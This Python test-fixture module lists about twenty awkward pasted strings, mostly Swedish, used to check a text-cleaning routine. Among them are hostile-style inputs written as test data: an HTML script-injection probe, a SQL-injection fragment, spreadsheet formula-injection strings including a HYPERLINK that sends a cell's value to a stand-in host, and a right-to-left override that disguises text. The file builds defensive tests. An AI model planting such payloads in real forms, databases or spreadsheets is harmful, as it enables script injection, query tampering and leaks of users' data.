"""Some twenty texts such as people paste, and what is to be kept of each."""

from __future__ import annotations

import html
import re
from dataclasses import dataclass

from finsam.texts.cleaning import clean_text


@dataclass(frozen=True)
class Awkward:
    """A text, in how many fields it is stored at least, so that not all refuse it, and whether databases may differ over it.

    They differ over signs that one of them refuses or counts otherwise, over lengths, and over what ends a text in SQL.
    """

    name: str
    text: str
    least_stored: int = 100
    is_plain: bool = False


TEXTS = (
    Awkward("control signs", "Platt\x0bform \x01nr\x1f\x7f 2\x85slut"),
    Awkward("nul", "före\x00efter"),
    Awkward("no signs", "hel\ufffe \uffff\ufdd0text"),
    Awkward("ligatures", "\ufb01nansiering av \ufb02öden", is_plain=True),
    Awkward("odd spaces", "tre\u2003olika\u2007slags\u202fblank\u3000tecken", is_plain=True),
    Awkward("decomposed", "A\u030atga\u0308rdso\u0308versikt"),
    Awkward("unseen marks", "\u200eosynliga\u2060 \ufeffmärken\u200b"),
    Awkward("nothing to see", "\u200b\u2800\u3164", least_stored=0),
    Awkward("turned round", "Anna \u202etgreB\u202c", least_stored=0, is_plain=True),
    Awkward(
        "emoji",
        "Bra jobbat \U0001f44d\U0001f3fd \U0001f469\u200d\U0001f469\u200d\U0001f467 \U0001f1f8\U0001f1ea",
    ),
    Awkward("one long word", "samordnings" * 30, least_stored=30),
    Awkward("long text", "Samverkan ger resultat för den enskilde. " * 150, least_stored=30),
    Awkward("html", "<b>Fet</b> & <script>alert(1)</script> &lt;i&gt; &amp;", is_plain=True),
    Awkward("braces", "{{ namn }} {% if x %} {0} %s %(y)d ${z} \\n \\u0041"),
    Awkward("bars", "| Vad | När | Vem |", is_plain=True),
    Awkward("quotes", "\"D'Artagnan\" ”hon” `sa` \\' ; -- DROP"),
    Awkward("formula", '=HYPERLINK("http://exempel.invalid/?x="&B3,"Bidrag")', is_plain=True),
    Awkward("minus first", "-1+2 @SUM(A1)", is_plain=True),
    Awkward("letters of Europe", "Nguyễn Thị Ánh Ελένη Ψ Жанна Щукина Ѓ", is_plain=True),
    Awkward("arrows and ticks", "före → efter ✓ ✗ ☐ ☑ ≤ ≥ § ‰ ½ €", is_plain=True),
    Awkward("other writings", "مرحبا שלום 你好 ไทย"),
)

_MARKUP = re.compile(r"<[^>]*>")
_LOOSE = re.compile(r"[\s\u00a0\\]+")


def gist(text: str) -> str:
    """Give a text without what storing may add or take: markup, spaces, and the signs that stop a formula or a mark-up."""
    plain, before = clean_text(text), None
    while plain != before:  # what was typed as an entity stands doubly so on a page
        before, plain = plain, _MARKUP.sub("", html.unescape(plain))
    return _LOOSE.sub("", plain).replace("\u00ad", "")
